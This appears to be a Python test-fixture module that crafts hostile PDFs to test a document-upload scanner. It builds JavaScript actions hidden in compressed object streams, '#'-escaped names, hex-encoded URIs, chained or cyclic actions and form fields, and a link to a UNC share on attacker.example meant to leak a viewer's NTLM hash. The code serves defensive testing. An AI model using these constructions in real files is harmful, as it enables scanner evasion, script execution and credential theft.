"""Hostile PDFs written byte by byte, the way an attacker writes them.

pypdf's writer spells names plainly and keeps every object in sight, so the holes an attacker uses
are written here directly: `#`-escaped names, hex strings, actions chained behind a harmless one,
and objects packed into a compressed object stream, where no scan of the raw bytes can see them
(only a reader that parses the document finds them). `pdf_from_objects` lays out numbered objects
and a cross-reference stream with correct offsets, so every reader, pypdf included, parses the file
as intended.
"""

from __future__ import annotations

import struct
import zlib

# A two-page document; callers add keys to the catalog (object 1) or replace objects.
CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>"


def pdf_from_objects(
    objects: dict[int, bytes],
    *,
    compressed: frozenset[int] | set[int] = frozenset(),
    padding_before: dict[int, int] | None = None,
    xref_table: bool = False,
) -> bytes:
    """A well-formed PDF whose object `n` is `objects[n]` (object 1 is the catalog).

    Objects in `compressed` are packed into one Flate-compressed object stream. `padding_before[n]`
    puts that many bytes of a PDF comment before object `n`, to move it to a chosen offset (e.g.
    across the upload scanner's chunk boundary). The objects are listed in a cross-reference
    stream, or with `xref_table` (and nothing compressed) in a classic table.
    """
    padding_before = padding_before or {}
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    stream_number = max(objects) + 1
    xref_number = stream_number + 1
    entries = {0: (0, 0, 65535)}
    for number in sorted(set(objects) - set(compressed)):
        if padding := padding_before.get(number):
            # A comment line of exactly `padding` bytes, newline included.
            out += b"%" + b"x" * (padding - 2) + b"\n"
        entries[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    if compressed:
        header, bodies = [], bytearray()
        for index, number in enumerate(sorted(compressed)):
            header.append(b"%d %d" % (number, len(bodies)))
            bodies += objects[number] + b"\n"
            entries[number] = (2, stream_number, index)
        head = b" ".join(header) + b"\n"
        data = zlib.compress(head + bytes(bodies))
        entries[stream_number] = (1, len(out), 0)
        out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>" % (
            stream_number,
            len(compressed),
            len(head),
            len(data),
        )
        out += b"\nstream\n" + data + b"\nendstream\nendobj\n"
    if xref_table:
        assert not compressed, "a classic table cannot list compressed objects"
        xref_at = len(out)
        out += b"xref\n0 %d\n" % stream_number
        for number in range(stream_number):
            kind, offset, generation = entries.get(number, (0, 0, 65535))
            out += b"%010d %05d %s \n" % (offset, generation, b"n" if kind else b"f")
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % stream_number
        return bytes(out + b"startxref\n%d\n%%%%EOF\n" % xref_at)
    entries[xref_number] = (1, len(out), 0)
    free = (0, 0, 65535)
    table = b"".join(
        struct.pack(">BIH", *entries.get(number, free)) for number in range(xref_number + 1)
    )
    xref_at = len(out)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\n" % (
        xref_number,
        xref_number + 1,
        len(table),
    )
    out += b"stream\n" + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def two_page_pdf(
    *,
    catalog_extra: bytes = b"",
    page_extra: bytes = b"",
    more: dict[int, bytes] | None = None,
    hidden: bool = True,
    padding_before: dict[int, int] | None = None,
) -> bytes:
    """The plain two-page document, with `catalog_extra` in the catalog, `page_extra` in the
    first page and `more` objects (numbered from 5). The document's own objects, and with
    `hidden` the `more` ones, are packed in a compressed object stream."""
    more = more or {}
    objects = {1: CATALOG % catalog_extra, 2: PAGES, 3: PAGE % page_extra, 4: PAGE % b"", **more}
    packed = {1, 2, 3, 4} | (set(more) if hidden else set())
    return pdf_from_objects(objects, compressed=packed, padding_before=padding_before)


# An action that runs script. Packed in the object stream, nothing of it shows in the raw bytes.
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"
# The same, named the way a scan of the raw bytes that does not decode `#xx` escapes misses it.
ESCAPED_SCRIPT = b"<< /S /J#61vaScript /JS (app.alert\\(document.cookie\\)) >>"
# An internal jump to the second page: the one action a document may carry.
GOTO_PAGE_2 = b"<< /S /GoTo /D [4 0 R /Fit] >>"


def goto_then_script() -> bytes:
    """An open action that jumps to page 2, then (its /Next) runs script."""
    return two_page_pdf(
        catalog_extra=b"/OpenAction 5 0 R",
        more={5: b"<< /S /GoTo /D [4 0 R /Fit] /Next [6 0 R] >>", 6: SCRIPT},
    )


def goto_chain_with_a_cycle_then_script() -> bytes:
    """/Next chains that loop back on themselves (a reader must not walk forever), with script
    hanging off the loop as a single dictionary, not an array."""
    return two_page_pdf(
        catalog_extra=b"/OpenAction 5 0 R",
        more={
            5: b"<< /S /GoTo /D [4 0 R /Fit] /Next [6 0 R 7 0 R] >>",
            6: b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
            7: b"<< /S /GoTo /D [3 0 R /Fit] /Next 8 0 R >>",
            8: SCRIPT,
        },
    )


def outline_with_script() -> bytes:
    """A bookmark (the second item of the outline tree) whose action runs script."""
    return two_page_pdf(
        catalog_extra=b"/Outlines 5 0 R",
        more={
            5: b"<< /Type /Outlines /First 6 0 R /Last 7 0 R /Count 2 >>",
            6: b"<< /Title (Page 2) /Parent 5 0 R /Next 7 0 R /Dest [4 0 R /Fit] >>",
            7: b"<< /Title (Summary) /Parent 5 0 R /Prev 6 0 R /A 8 0 R >>",
            8: SCRIPT,
        },
    )


def form_field_parent_with_script(*, listed: bool = True) -> bytes:
    """A text field whose parent field (not the widget on the page) runs script on a keystroke;
    the parent is listed in the document's form, or reached only from the widget's /Parent."""
    return two_page_pdf(
        catalog_extra=b"/AcroForm << /Fields [%s] >>" % (b"5 0 R" if listed else b""),
        page_extra=b"/Annots [6 0 R]",
        more={
            5: b"<< /T (applicant) /FT /Tx /Kids [6 0 R] /AA << /K 7 0 R >> >>",
            6: b"<< /Type /Annot /Subtype /Widget /Parent 5 0 R /T (name) /Rect [50 50 200 80] >>",
            7: SCRIPT,
        },
    )


def link_to_a_unc_path() -> bytes:
    """A link that opens a document on a Windows share: the viewer sends the user's NTLM hash."""
    return two_page_pdf(
        page_extra=b"/Annots [5 0 R]",
        more={
            5: b"<< /Type /Annot /Subtype /Link /Rect [50 50 200 80] /A << /S /GoToR "
            b"/F (\\\\\\\\attacker.example\\\\share\\\\invoice.pdf) /D [0 /Fit] >> >>",
        },
    )


def link_to_a_hex_javascript_uri() -> bytes:
    """A link whose URI is `javascript:…`, written as a hex string (no plain "javascript:")."""
    uri = b"javascript:app.alert(1)".hex().encode()
    return two_page_pdf(
        page_extra=b"/Annots [5 0 R]",
        more={
            5: b"<< /Type /Annot /Subtype /Link /Rect [50 50 200 80] "
            b"/A << /S /URI /URI <%s> >> >>" % uri,
        },
    )


def form_field_that_is_also_the_open_action() -> bytes:
    """One object used twice: as a form field (where /S means nothing) and as the open action
    (where it runs). A checker that skips an object it has already seen, in any role, misses it."""
    return two_page_pdf(
        catalog_extra=b"/AcroForm << /Fields [5 0 R] >> /OpenAction 5 0 R",
        more={5: b"<< /T (start) /FT /Tx /S /JavaScript /JS (app.alert\\(1\\)) >>"},
    )


def script_in_additional_actions(where: str) -> bytes:
    """Script run on an event (`/AA`) of the document, a page or a link annotation, or listed in
    the document's JavaScript name tree."""
    aa = b"/AA << /O 5 0 R >>"
    if where == "document":
        return two_page_pdf(catalog_extra=b"/AA << /WC 5 0 R >>", more={5: SCRIPT})
    if where == "page":
        return two_page_pdf(page_extra=aa, more={5: SCRIPT})
    if where == "annotation":
        return two_page_pdf(
            page_extra=b"/Annots [6 0 R]",
            more={
                5: SCRIPT,
                6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /AA << /E 5 0 R >> >>",
            },
        )
    assert where == "names"
    return two_page_pdf(
        catalog_extra=b"/Names << /J#61vaScript << /Names [(init) 5 0 R] >> >>",
        more={5: SCRIPT},
    )


def stray_object(content: bytes, *, at: int | None = None) -> bytes:
    """A plain document plus an object nothing refers to (pypdf never reads it; a viewer that
    rebuilds a damaged cross-reference table may). With `at`, the first byte of `content`'s
    `/J` lands at that offset of the file."""
    if at is None:
        return two_page_pdf(more={9: content}, hidden=False)
    probe = two_page_pdf(more={9: content}, hidden=False, padding_before={9: 100})
    shift = at - probe.index(b"/J", probe.index(b"9 0 obj"))
    return two_page_pdf(more={9: content}, hidden=False, padding_before={9: 100 + shift})


def page_tree(*, pages: int, claimed: int | None = None, written: bool = True) -> bytes:
    """A document of `pages` pages whose page tree says it has `claimed` (default: the truth).
    Without `written`, the tree lists the pages but the file holds none of them."""
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(pages))
    claimed = pages if claimed is None else claimed
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, claimed),
    }
    for n in range(pages):
        objects[n + 3] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    if not written:
        # Numbered but free in the cross-reference table: no reader finds them.
        objects = {number: obj for number, obj in objects.items() if number < 3}
        objects[pages + 3] = b"<< >>"  # keeps the numbers of the file's own streams after them
    return pdf_from_objects(objects)


def page_with_links(count: int) -> bytes:
    """One page carrying `count` internal links, each its own object."""
    links = b" ".join(b"%d 0 R" % (n + 5) for n in range(count))
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [4 0 R /Fit] >> >>"
    more = {n + 5: link for n in range(count)}
    return two_page_pdf(page_extra=b"/Annots [%s]" % links, more=more)


def many_objects(count: int, *, xref_table: bool) -> bytes:
    """The plain document and `count` more (empty) objects, listed in a classic cross-reference
    table or a cross-reference stream."""
    objects = {1: CATALOG % b"", 2: PAGES, 3: PAGE % b"", 4: PAGE % b""}
    objects.update(dict.fromkeys(range(5, 5 + count), b"<< >>"))
    return pdf_from_objects(objects, xref_table=xref_table)
